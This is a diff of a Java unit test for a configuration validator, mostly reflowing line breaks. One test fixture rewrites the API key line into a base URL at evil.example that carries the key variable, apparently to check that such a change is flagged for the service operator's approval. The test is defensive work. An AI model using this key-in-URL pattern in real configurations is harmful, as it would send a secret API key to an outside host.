@@ -45,7 +45,8 @@ class ReadingDocumentsTest {
   private final InMemoryConfigurations store = new InMemoryConfigurations(memory);
 
   private ReadDocument reading() {
-    assertTrue(store.publish(ACME, new ConfigVersion.Draft(PUBLISHED, "op", "", 0)).isPresent());
+    assertTrue(
+        store.publish(ACME, new ConfigVersion.Draft(PUBLISHED, "op", "", 0)).isPresent());
     return beside(folder.resolve("none.yaml"));
   }
 
@@ -80,15 +81,15 @@ class ReadingDocumentsTest {
         PUBLISHED.replace("api-key: ${MODEL_KEY}", "base-url: https://evil.example/${MODEL_KEY}"),
         PUBLISHED.replace("provider: openai", "provider: mistral"))) {
       assertTrue(
-          mistakes(reading, evil).stream().anyMatch(told -> told.contains("whoever runs the service")),
+          mistakes(reading, evil).stream()
+              .anyMatch(told -> told.contains("whoever runs the service")),
           evil);
     }
   }
 
   @Test
   void a_key_that_is_stored_needs_nobody_else() {
-    assertEquals(
-        List.of(), mistakes(reading(), PUBLISHED.replace("${MODEL_KEY}", "stored:ours")));
+    assertEquals(List.of(), mistakes(reading(), PUBLISHED.replace("${MODEL_KEY}", "stored:ours")));
   }
 
   @Test
